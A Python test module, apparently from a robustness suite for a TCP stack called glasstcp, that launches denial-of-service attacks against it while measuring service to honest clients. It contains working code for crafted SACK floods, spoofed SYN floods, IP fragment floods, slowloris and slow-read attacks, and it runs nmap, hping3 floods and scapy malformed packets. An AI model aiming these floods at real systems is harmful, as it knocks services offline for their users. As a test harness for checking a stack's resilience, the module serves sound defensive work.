"""The attacks. Each is a generator of pressure against one target that runs while honest clients are counted."""

import os
import random
import shutil
import struct
import subprocess
import sys
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import wire
from wire import ACK, SYN

HERE = Path(__file__).resolve().parent
ATTACKS = {}


class NotHere(Exception):
    """A tool that the attack needs is missing."""


@dataclass
class Attack:
    name: str
    kind: str  # CVE, CWE or RFC
    run: Callable
    served: float  # the least share of honest pages that glasstcp must serve meanwhile
    seconds: float
    options: tuple = ()  # of glasstcp serve
    only_ours: bool = False
    prefix: tuple = ()  # before the program


def attack(kind, served=0.95, seconds=8.0, **more):
    def declare(function):
        name = function.__name__.replace("_", "-")
        ATTACKS[name] = Attack(name, kind, function, served, seconds, **more)
        return function

    return declare


def tool(name):
    found = shutil.which(name)
    if not found:
        raise NotHere(f"{name} is missing (scripts/setup judge)")
    return found


def run_for(seconds, *command):
    """Runs a tool, and ends it when its time is over."""
    with subprocess.Popen(["timeout", "-k", "1", str(seconds), *map(str, command)], stdout=subprocess.DEVNULL,
                          stderr=subprocess.DEVNULL, stdin=subprocess.DEVNULL) as process:
        process.wait()


def sender(name, target, seconds, *more):
    """One of the programs beside this file, which hold many connections, and say what became of them."""
    command = [sys.executable, HERE / f"{name}.py", "--to", target.address, "--seconds", seconds, *more]
    done = subprocess.run([str(word) for word in command], capture_output=True, text=True, check=False)
    if done.returncode != 0:
        raise RuntimeError(done.stderr.strip()[-200:])
    return done.stdout.strip().splitlines()[-1]


# --- The nine of the table in tests/README.md -----------------------------------------------------------------------


@attack("CVE-2018-5390, CVE-2019-11478", served=0.9)
def sack_of_four_bytes(target, scale):
    """A download with a large window; its ACKs report four bytes here and there, which cover no segment."""
    link = wire.Link(target.device)
    source = (target.attacker(0), 40000)
    standing = wire.handshakes(link, target.address, [source], seconds=5)
    if source not in standing:
        raise RuntimeError("no handshake")
    seq, una = standing[source]
    request = b"GET /large.bin HTTP/1.1\r\nHost: a\r\n\r\n"
    link.send(wire.tcp_packet(source[0], target.address, (source[1], 80), ACK, seq, una, 65535, b"", request))
    seq += len(request)
    first, highest, chance = una, una, random.Random(1)
    # First everything is acknowledged, so that the window grows; then nothing but four bytes here and there.
    is_honest, flight, end = True, 0, time.monotonic() + 30
    while time.monotonic() < end:
        for segment in link.received(80, 0.001):
            last = (segment.seq + len(segment.data)) & 0xFFFFFFFF
            if segment.to_port == source[1] and (last - highest) & 0x80000000 == 0:
                highest = last
        if is_honest:
            una = highest
            if (una - first) & 0xFFFFFFFF > 6 << 20:
                is_honest, end = False, time.monotonic() + scale * 8
            link.send(wire.tcp_packet(source[0], target.address, (source[1], 80), ACK, seq, una, 65535))
            continue
        flight = max(flight, (highest - una) & 0xFFFFFFFF)
        for _ in range(64):
            blocks = b""
            for _ in range(3):
                left = (una + chance.randrange(max(1, flight))) & 0xFFFFFFFF
                blocks += struct.pack("!II", left, (left + 4) & 0xFFFFFFFF)
            blocks = b"\1\1\5" + bytes([2 + len(blocks)]) + blocks
            link.send(wire.tcp_packet(source[0], target.address, (source[1], 80), ACK, seq, una, 65535, blocks))
    link.send(wire.tcp_packet(source[0], target.address, (source[1], 80), wire.RST, seq, una))
    if target.name == "glasstcp" and flight < 256 << 10:
        raise RuntimeError(f"a flight of {flight >> 10} KB is none to attack")
    return f"{link.sent} ACKs, flight {flight >> 10} KB"


@attack("RFC 4987, CWE-400", served=0.9)
def syn_flood(target, scale):
    """SYNs from everywhere, as fast as one process makes them."""
    program = Path(os.environ["ATTACK_FOLDER"]) / "syn_flood"
    if not program.exists() and (HERE / "syn_flood.cc").exists() and shutil.which("c++"):
        subprocess.run(["c++", "-O2", "-std=c++20", "-o", program, HERE / "syn_flood.cc"], check=True)
    if program.exists():
        wish = ["--to", f"{target.address}:80", "--rate", "100000", "--seconds", str(scale * 8)]
        done = subprocess.run([program, *wish], capture_output=True, text=True, check=False)
        return done.stdout.strip().splitlines()[-1] if done.stdout.strip() else done.stderr.strip()
    link, chance = wire.Link(target.device), random.Random(2)
    packets = [wire.tcp_packet(f"198.18.{chance.randrange(256)}.{chance.randrange(1, 255)}", target.address,
                               (chance.randrange(1024, 65535), 80), SYN, chance.randrange(1 << 32),
                               options=wire.OPTIONS)
               for _ in range(4096)]
    end = time.monotonic() + scale * 8
    while time.monotonic() < end:
        for packet in packets:
            link.send(packet)
    return f"{link.sent} SYNs"


@attack("CWE-770", served=0.9, seconds=12)
def silent_handshakes(target, scale):
    """Handshakes of many addresses after which nothing is said."""
    link = wire.Link(target.device)
    count = int(20_000 * scale)
    sources = [(target.attacker(i), 10_000 + i // 100) for i in range(count)]
    standing = wire.handshakes(link, target.address, sources, seconds=scale * 10)
    time.sleep(scale * 2)
    for source, (seq, ack) in standing.items():
        link.send(wire.tcp_packet(source[0], target.address, (source[1], 80), wire.RST, seq, ack))
    return f"{len(standing)} of {count} stood"


@attack("CWE-400: slow read", served=0.9)
def slow_readers(target, scale):
    """Twenty-four clients that read a large file a byte a second."""
    return sender("slow_reader", target, 8 * scale, "--connections", 24, "--path", "/big{}.bin", "--files", 12)


@attack("RFC 6429, CWE-400", served=0.9)
def zero_windows(target, scale):
    """Connections that ask for a large file and never read."""
    count = int(400 * scale) + 50
    return sender("zero_window", target, 8 * scale, "--connections", count, "--path", "/big{}.bin", "--files", 12)


@attack("CWE-400: slowloris", served=0.9)
def partial_heads(target, scale):
    """Heads of 30 KB whose end never comes."""
    return sender("partial_heads", target, 6 * scale, "--connections", int(2500 * scale) + 100)


@attack("CWE-769", served=0.9, prefix=("prlimit", "--nofile=64"), only_ours=True)
def more_files_than_descriptors(target, scale):
    """Eighty clients hold a file above 16 MiB each, with 64 descriptors for the server."""
    return sender("open_files", target, 6 * scale, "--connections", 80, "--path", "/many{}.bin", "--files", 80)


@attack("CVE-2018-5390's kind, CWE-405", served=0.9)
def octets_out_of_order(target, scale):
    """Connections that send single octets all over their window: each costs the receiver a block."""
    link = wire.Link(target.device)
    sources = [(target.attacker(i), 30_000 + i // 100) for i in range(int(200 * scale) + 20)]
    standing = wire.handshakes(link, target.address, sources, seconds=5)
    end, at = time.monotonic() + scale * 8, 0
    while time.monotonic() < end:
        at = (at + 2) % 60_000
        for source, (seq, ack) in standing.items():
            link.send(wire.tcp_packet(source[0], target.address, (source[1], 80), ACK, seq + 100 + at, ack, data=b"x"))
        for _ in link.received(80):
            pass
    for source, (seq, ack) in standing.items():
        link.send(wire.tcp_packet(source[0], target.address, (source[1], 80), wire.RST, seq, ack))
    return f"{link.sent} octets on {len(standing)} connections"


@attack("CVE-2018-5391 (FragmentSmack)", served=0.95)
def first_fragments(target, scale):
    """First fragments from four sources, which nobody ends; large pings of others must be answered meanwhile."""
    link, body = wire.Link(target.device), b"\x08\0\0\0" + bytes(1476)
    end, number, asked, answered = time.monotonic() + scale * 6, 0, 0, 0
    while time.monotonic() < end:
        for _ in range(200):
            number = (number + 1) % 65536
            link.send(wire.ip_packet(target.attacker(number % 4), target.address, 1, body, 0x2000, number))
        asked += 1
        ping = subprocess.run(["ping", "-c1", "-W1", "-s", "8000", target.address], stdout=subprocess.DEVNULL,
                              check=False)
        answered += ping.returncode == 0
    if target.name == "glasstcp" and answered < asked * 0.8:
        raise RuntimeError(f"only {answered} of {asked} large pings were answered")
    return f"{link.sent} fragments; large pings {answered} of {asked}"


@attack("CWE-789", served=0.5, prefix=("prlimit", "--as=160000000"), options=("--memory", "64M"), only_ours=True)
def little_memory(target, scale):
    """Downloads by the hundred where the address space is small."""
    return sender("zero_window", target, 6 * scale, "--connections", 600, "--path", "/large.bin")


@attack("CWE-400: slow POST", served=0.9, options=("--sink", "/sink"))
def slow_bodies(target, scale):
    """Bodies of a megabyte, a byte of which comes every five seconds."""
    return sender("slow_body", target, 8 * scale)


@attack("CWE-770", served=0.9)
def pipelined_heads(target, scale):
    """Requests by the thousand on each connection, whose answers nobody reads."""
    return sender("pipelined_heads", target, 8 * scale)


# --- Other people's tools -------------------------------------------------------------------------------------------


@attack("nmap", seconds=20)
def nmap(target, scale):
    """Scans of every kind, and a guess of the system."""
    program, told = tool("nmap"), []
    for kind in ("-sS", "-sN", "-sX", "-sA", "-sO") if scale == 1 else ("-sS", "-sX"):
        ports = [] if kind == "-sO" else ["-p", "70-90"]
        scan = ["-n", "-Pn", "-T5", "--max-retries", "1", kind, *ports, target.address]
        done = subprocess.run(["timeout", "30", program, *scan], capture_output=True, text=True, check=False)
        told.append(sum(" open " in line for line in done.stdout.splitlines()))
        if kind == "-sS" and "80/tcp open" not in done.stdout:
            raise RuntimeError("nmap does not find port 80 open")
    guess = subprocess.run(["timeout", "40", program, "-n", "-Pn", "-O", "-v", "-p", "70-90", target.address],
                           capture_output=True, text=True, check=False)
    index = [line.partition(":")[2].strip() for line in guess.stdout.splitlines() if "TCP Sequence Prediction" in line]
    return f"open ports {told[0]}; sequence: {index[0] if index else 'not told'}"


@attack("hping3", served=0.9)
def hping3(target, scale):
    """Floods of SYN, of all flags, of UDP and of pings, one after the other, as fast as hping3 can."""
    program = tool("hping3")
    for flags in (["-S", "-p", "80"], ["-FSRPAU", "-p", "80"], ["-2", "-p", "80"], ["-1"], ["-S", "-p", "80", "-f"]):
        run_for(1.5 * scale, program, "--flood", "--rand-source", "-q", *flags, target.address)
    return "5 floods"


@attack("scapy", seconds=20)
def scapy(target, scale):
    """Malformed packets with names (LAND, ping of death, teardrop ...), and thousands of fuzzed ones."""
    python = "/usr/bin/python3"
    done = subprocess.run([python, HERE / "scapy_malformed.py", target.device, target.address, target.attacker(7),
                           str(int(3000 * scale))], capture_output=True, text=True, check=False)
    if done.returncode != 0:
        if "No module named" in done.stderr:
            raise NotHere("scapy is missing (scripts/setup judge)")
        raise RuntimeError(done.stderr.strip()[-200:])
    return done.stdout.strip()


@attack("slowhttptest: slow headers, bodies, reads, Apache range", served=0.9, seconds=20)
def slowhttptest(target, scale):
    """slowhttptest's four attacks with 500 connections each."""
    program, url = tool("slowhttptest"), f"http://{target.address}/large.bin"
    common = ["-c", 500, "-r", 200, "-l", int(5 * scale) + 1, "-i", 2, "-p", 3, "-u", url]
    for kind in (["-H"], ["-B"], ["-X", "-w", 10, "-y", 20, "-n", 1, "-z", 32], ["-R", "-a", 1, "-b", 3000]):
        run_for(5 * scale + 3, program, *kind, *common)
    return "4 attacks"
